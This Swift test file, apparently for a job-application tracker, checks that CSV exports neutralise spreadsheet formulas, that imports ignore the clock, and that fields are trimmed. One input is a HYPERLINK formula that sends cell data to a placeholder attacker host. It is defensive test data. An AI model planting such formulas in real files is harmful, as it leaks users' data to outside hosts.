import Foundation
import Testing

@Suite("exchange that is safe: formula-proof CSV, imports never judged by the clock")
struct SafeExchangeTests {
    static let formulas = [
        #"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#, "+1 555", "-2+3", "@SUM(A1:A2)", "\tTabbed", "'quoted",
        "''twice",
    ]

    @Test("a cell a spreadsheet would run is written with a leading ', and reads back exactly", arguments: formulas)
    func formulaCells(_ text: String) throws {
        let source = try Sandbox()
        try source.add("Acme", "Role", ["--note=\(text)"])
        let exported = try source.export("csv")
        #expect(exported.contains("'" + text.prefix(3)), "the notes cell starts with ': \(exported)")
        let target = try Sandbox()
        try target.ok(["import", target.file("apps.csv", exported)])
        let application = try target.json(["show", "1"])
        #expect(application["notes"]?.string == text)
        #expect(try target.export("csv") == exported)
    }

    @Test("an export with a call after the importing machine's now reads back unchanged")
    func importIgnoresTheClock() throws {
        let source = try Sandbox(now: "2026-12-09T10:00:00-05:00")
        try source.add()
        try source.interview(1)
        try source.ok(["call", "1", "--outcome", "reached", "--at", "2026-12-08 10:00", "--decision-by", "2026-12-18"])
        try source.ok(["thanks", "1", "--at", "2026-11-30 18:00"])
        let exported = try source.export("json")
        // A machine whose clock says a week earlier: before the call, before the thank-you note.
        let target = try Sandbox(now: "2026-11-20T10:00:00-05:00")
        try target.ok(["import", target.file("all.json", exported)])
        #expect(try target.export("json") == exported)
    }

    @Test("company and role are stored trimmed")
    func trimmed() throws {
        let box = try Sandbox()
        try box.add("  Acme  ", "\tEngineer \n")
        let application = try box.json(["show", "1"])
        #expect(application["company"] == .string("Acme"))
        #expect(application["role"] == .string("Engineer"))
    }
}
